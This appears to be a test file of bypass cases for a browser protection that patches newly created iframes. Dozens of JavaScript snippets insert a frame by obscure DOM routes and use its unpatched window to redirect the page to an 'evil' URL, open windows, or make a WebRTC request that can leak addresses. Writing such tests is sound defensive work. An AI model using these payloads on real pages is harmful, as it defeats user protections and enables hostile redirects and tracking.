// A frame that is reached by its index in the task that makes it, before anybody has looked at it: its functions are the
// browser's own, and make a tree that nobody looks into.
const USE = `window.use = (w) => {
    const root = w.Element.prototype.attachShadow.call(document.documentElement.appendChild(document.createElement("div")), { mode: "closed" });
    const f = document.createElement("iframe");
    f.setAttribute("sandbox", "allow-scripts allow-top-navigation");
    f.srcdoc = script(\`top.location = "\${evil}"\`);
    w.Node.prototype.appendChild.call(root, f);
  }`;
const SLOW = `Object.assign(document.createElement("iframe"), { src: "/slow" })`;
const MARKUP = "<iframe src=/slow></iframe>";
const attack = (body) => `async ({ evil, add, script, sleep }) => {
  ${USE};
  const make = (name, properties) => Object.assign(document.createElement(name), properties);
  const f = ${SLOW};
  const body = document.body;
  const div = add("div");
  const child = div.appendChild(make("p"));
  const all = document.createDocumentFragment();
  const runs = (textContent = "use(window[0])") => make("script", { textContent });
  ${body};
}`;
const inserted = (by, then = "use(window[0])") => attack(`${by};\n  ${then}`);
/** Of a plugin's frame, which layout makes. */
const laidOut = (by) =>
  inserted(`${by}; document.querySelector("object, embed").offsetHeight`, "if (window[0]) use(window[0])");
const trusted = `const policy = window.trustedTypes?.createPolicy("x", { createHTML: (s) => s }) ?? { createHTML: (s) => s }`;

export default {
  // Every call that inserts.
  appendChild: inserted("div.appendChild(f)"),
  insertBefore: inserted("div.insertBefore(f, child)"),
  replaceChild: inserted("div.replaceChild(f, child)"),
  append: inserted(`div.append("x", f)`),
  prepend: inserted("div.prepend(f)"),
  replaceChildren: inserted("div.replaceChildren(f)"),
  before: inserted("child.before(f)"),
  after: inserted("child.after(f)"),
  replaceWith: inserted("child.replaceWith(f)"),
  "before a text": inserted(`child.append("x"); child.firstChild.before(f)`),
  insertAdjacentElement: inserted(`child.insertAdjacentElement("afterend", f)`),
  insertAdjacentHTML: inserted(`child.insertAdjacentHTML("afterend", "${MARKUP}")`),
  innerHTML: inserted(`div.innerHTML = "${MARKUP}"`),
  outerHTML: inserted(`div.outerHTML = "${MARKUP}"`),
  setHTMLUnsafe: inserted(`div.setHTMLUnsafe("${MARKUP}")`),
  "a fragment": inserted("all.append(f); div.append(all)"),
  "a fragment of a range": inserted(`div.append(document.createRange().createContextualFragment("${MARKUP}"))`),
  "a template's content": inserted(
    `const t = make("template", { innerHTML: "${MARKUP}" }); div.append(document.importNode(t.content, true))`,
  ),
  "a parser's": inserted(
    `div.append(document.adoptNode(new DOMParser().parseFromString("${MARKUP}", "text/html").body.firstChild))`,
  ),
  "a range": inserted("const r = document.createRange(); r.selectNode(child); r.insertNode(f)"),
  "a range in a text": inserted(
    `child.append("text"); const r = document.createRange(); r.setStart(child.firstChild, 2); r.insertNode(f)`,
  ),
  "a range that surrounds a frame": inserted(
    "div.replaceChildren(f); const r = document.createRange(); r.selectNode(f); r.surroundContents(make('p'))",
  ),
  "a caption": inserted("const t = make('table'), c = make('caption'); div.append(t); c.append(f); t.caption = c"),
  "a table's head": inserted("const t = make('table'), c = make('thead'); div.append(t); c.append(f); t.tHead = c"),
  "a list's add": inserted("const o = make('option'), s = make('select'); div.append(s); o.append(f); s.add(o)"),
  "the add of a list's options": inserted(
    "const o = make('option'), s = make('select'); div.append(s); o.append(f); s.options.add(o)",
  ),
  "after the doctype": inserted(
    "const html = document.documentElement; html.remove(); html.querySelector('body').append(f); document.doctype.after(html)",
  ),
  "another body": inserted("const b = make('body'); b.append(f); document.body = b"),
  "a frame of a set of frames": inserted(
    "const b = make('frameset'); b.append(make('frame', { src: '/slow' })); document.body = b",
  ),
  "a command": inserted(
    `div.contentEditable = true; child.append("x"); div.focus(); getSelection().selectAllChildren(child); document.execCommand("insertHTML", false, "${MARKUP}")`,
  ),
  "a command that moves it": inserted(`div.contentEditable = true; child.append("x", f);
    getSelection().selectAllChildren(child); document.execCommand("formatBlock", false, "h1"); document.execCommand("insertUnorderedList")`),
  "a command that is undone": inserted(`div.contentEditable = true; child.append("x", f, "y");
    getSelection().selectAllChildren(child); document.execCommand("delete"); document.execCommand("undo")`),
  "a command, in its event":
    attack(`div.contentEditable = true; div.focus(); child.append("x"); getSelection().selectAllChildren(child);
    div.oninput = () => use(window[0]); document.execCommand("insertHTML", false, "${MARKUP}")`),
  "a frame's markup that is written": attack(`await sleep(1);
    document.write("${MARKUP}" + script("parent.use?.(window[0])").replace("parent", "window"))`),
  "a written line": attack(`await sleep(1); document.writeln("${MARKUP}"); use(window[0])`),

  // By other ways to it.
  "by its name": inserted(`f.name = "inner"; div.append(f)`, "use(window.inner)"),
  "by its name in the document": inserted(`f.name = "inner"; div.append(f)`, "use(document.inner)"),
  "by frames": inserted("div.append(f)", "use(frames[0])"),
  "by self, top and parent": inserted("div.append(f)", "use(self.top.parent[0])"),
  "with one before it": inserted("div.append(make('iframe'), f)", "use(window[1])"),
  "ahead of one": inserted("div.append(make('iframe')); div.prepend(f)", "use(window[1])"),
  "in place of one": inserted("div.append(make('iframe')); div.replaceChildren(f)"),
  "moved back and forth": inserted("div.append(f); child.append(f); div.prepend(f)"),
  "a frame's own, by its parent's method": inserted(
    "const d = add('iframe').contentDocument; Node.prototype.appendChild.call(d.body, Object.assign(d.createElement('iframe'), { src: '/slow' }))",
    "use(window[0][0])",
  ),
  "deep in a tree": inserted(
    `const outer = make("section", { innerHTML: "<p><b><i></i></b></p>" }); outer.querySelector("i").append(f); div.append(outer)`,
  ),
  "beside four hundred shadow trees": inserted(`
    const top = make("div");
    for (let at = top, n = 0; n < 400; n++) at = at.attachShadow({ mode: "open" }).appendChild(make("div"));
    div.append(top, f)`),

  // A script in what is inserted.
  "a script beside it": attack("all.append(f, runs()); body.append(all)"),
  "a script as an argument beside it": attack("body.append(f, runs())"),
  "a script of SVG beside it": attack(`
    const s = document.createElementNS("http://www.w3.org/2000/svg", "script");
    s.textContent = "use(window[0])"; s.setAttribute("src", "x"); all.append(f, s); body.append(all)`),
  "two scripts beside it": attack(
    "all.append(runs('window.w = window[0]'), f, runs('use(w ?? window[0])')); body.append(all)",
  ),
  "a script in a fragment of a range": attack(
    `div.append(document.createRange().createContextualFragment("${MARKUP}" + script("use(window[0])")))`,
  ),
  "a script in setHTMLUnsafe": attack(`
    div.setHTMLUnsafe("${MARKUP}" + script("use(window[0])"), { runScripts: true }); if (window[0] && !div.querySelector("script")) return`),
  "in a script": inserted("const s = make('script'); s.append(f); div.append(s)"),
  "in a script, deeper": inserted(
    "const s = make('script'); s.append(f); child.remove(); child.append(s); div.append(child)",
  ),
  "in a script, which asks": attack("const s = make('script'); s.append('use(window[0])', f); div.append(s)"),
  "in a script that is there": attack("const s = make('script'); div.append(s); s.append('use(window[0])', f)"),
  "in a script that is there, beside a text": attack(
    "const s = make('script'); s.append(''); div.append(s); s.firstChild.after('use(window[0])', f)",
  ),
  "in a script that surrounds it": attack(
    "child.append('use(window[0])', f); const r = document.createRange(); r.selectNodeContents(child); r.surroundContents(make('script'))",
  ),

  // What runs in the middle of a call.
  "a frame's handler in the same markup": attack(
    `window.go = () => use(window[0]); div.innerHTML = "${MARKUP}<iframe onload='go()'></iframe>"`,
  ),
  "a frame's handler, once the document was opened": attack(`await sleep(1);
    document.open(); document.addEventListener("load", () => use(window[0]), true);
    document.write("<p>"); document.body.innerHTML = "${MARKUP}<iframe></iframe>"`),
  "a frame's handler, in a document that a call opens": attack(`await sleep(1);
    document.write("<script>document.addEventListener('load', () => use(window[0]), true)</" + "script><p>");
    document.body.innerHTML = "${MARKUP}<iframe></iframe>"`),
  "an image's handler": attack(
    `window.go = () => use(window[0]); div.innerHTML = "<img src='data:,' onerror='go()'>${MARKUP}"; await sleep(300)`,
  ),
  "a drawing's handler, written": attack(`await sleep(1);
    window.go = () => use(window[0]); document.write("${MARKUP}<svg onload='go()'></svg>")`),
  "a tag that a script in what is written begins": attack(`await sleep(1);
    document.write(script("document.write('<ifr')") + "ame src=/slow></iframe>" + script("use(window[0])"))`),
  "a script in trusted markup that is written": attack(`${trusted}; await sleep(1);
    document.write(policy.createHTML("${MARKUP}" + script("use(window[0])")))`),
  "a string beside it that adds it": inserted("div.append(all, { toString: () => (all.append(f), '') })"),
  "a function beside it that adds it": inserted(
    "div.append(all, Object.assign(() => {}, { toString: () => (all.append(f), '') }))",
  ),
  "the document's collection beside it that adds it": inserted(
    "HTMLAllCollection.prototype.toString = () => (all.append(f), ''); div.append(all, document.all)",
  ),
  "a string beside it that adds a script": attack("div.append(all, { toString: () => (all.append(f, runs()), '') })"),
  "a position that adds it": inserted(
    "const p = make('div'); div.insertAdjacentElement({ toString: () => (p.append(f), 'beforeend') }, p)",
  ),
  "an index that adds it": inserted(
    "const o = make('option'), s = make('select'); div.append(s); s.add(o, { valueOf: () => (o.append(f), 0) })",
  ),
  "a frame's pagehide that adds it": inserted(
    `const old = make("iframe"); div.replaceChildren(old); all.append("x");
    old.contentWindow.onpagehide = () => all.append(f); div.replaceChild(all, old)`,
    "window[0] && use(window[0])",
  ),
  "a frame's pagehide that adds a script": attack(`const old = make("iframe"); div.replaceChildren(old);
    const e = make("p"); all.append(e); old.contentWindow.onpagehide = () => e.append(f, runs()); div.replaceChild(all, old);
    if (!e.querySelector("script")) e.append(runs())`),
  "the add of a list's options, from another document":
    inserted(`const d = document.implementation.createHTMLDocument("");
    const o = d.createElement("option"), s = make("select"); o.append(d.adoptNode(f)); div.append(s); s.options.add(o)`),
  "innerHTML that moves": inserted(`const p = document.implementation.createHTMLDocument("").createElement("p");
    p.innerHTML = { toString: () => (div.append(p), "${MARKUP}") }`),
  "insertAdjacentHTML that moves":
    inserted(`const p = document.implementation.createHTMLDocument("").createElement("p");
    p.insertAdjacentHTML({ toString: () => (div.append(p), "beforeend") }, "${MARKUP}")`),
  "setHTMLUnsafe that moves": inserted(`const p = document.implementation.createHTMLDocument("").createElement("p");
    p.setHTMLUnsafe("${MARKUP}", { get sanitizer() { div.append(p); } }); p.isConnected || div.append(p)`),
  "on an exhausted stack": inserted(
    `let tries = 1_000;
    const deep = () => { try { deep(); } catch {} if (!f.isConnected && tries-- > 0) try { div.append(f); } catch {} };
    deep()`,
    "if (!window[0]) div.append(f); use(window[0])",
  ),
  "on an exhausted stack, by markup": inserted(
    `let tries = 1_000;
    const deep = () => { try { deep(); } catch {} if (!window[0] && tries-- > 0) try { div.innerHTML = "${MARKUP}"; } catch {} };
    deep()`,
    "if (!window[0]) div.append(f); use(window[0])",
  ),

  // Plugins.
  "a plugin that is blank": laidOut("div.append(make('object', { data: 'about:blank', type: 'text/html' }))"),
  "a plugin that is blank elsewhere": laidOut(
    "div.append(make('object', { data: 'about:blank#x', type: 'text/html' }))",
  ),
  "a plugin that turns blank": laidOut(
    "const o = make('object'); div.append(o); await sleep(100); o.setAttribute('data', 'about:blank#x')",
  ),
  "an embedded plugin by markup": laidOut(`div.innerHTML = "<embed type=text/html src='about:blank#x'>"`),

  // What its functions are good for.
  "its open": inserted("div.append(f)", "window[0].open(evil)"),
  "its click": inserted(
    "div.append(f)",
    "window[0].HTMLElement.prototype.click.call(add('a', { href: evil, target: '_blank' }))",
  ),
  "its setHTMLUnsafe": inserted(
    "div.append(f)",
    `window[0].Element.prototype.setHTMLUnsafe.call(div, \`<p><template shadowrootmode=closed><iframe
      sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='\${evil}'</\${"script"}>"></iframe></template></p>\`)`,
  ),
  "its RTCPeerConnection": {
    source: `async ({ port, add }) => {
      add("iframe", { src: "/slow" });
      const c = new window[0].RTCPeerConnection({ iceServers: [{ urls: \`stun:127.0.0.1:\${port}\` }] });
      c.createDataChannel("x");
      await c.setLocalDescription(await c.createOffer());
    }`,
    hit: "datagram",
  },

  // Not held.
  "a custom element's callback": attack(`
    customElements.define("x-x", class extends HTMLElement { connectedCallback() { use(window[0]); } });
    all.append(f, make("x-x")); body.append(all)`),
  "a list's option": inserted("const o = make('option'), s = add('select'); o.append(f); s[0] = o"),
};
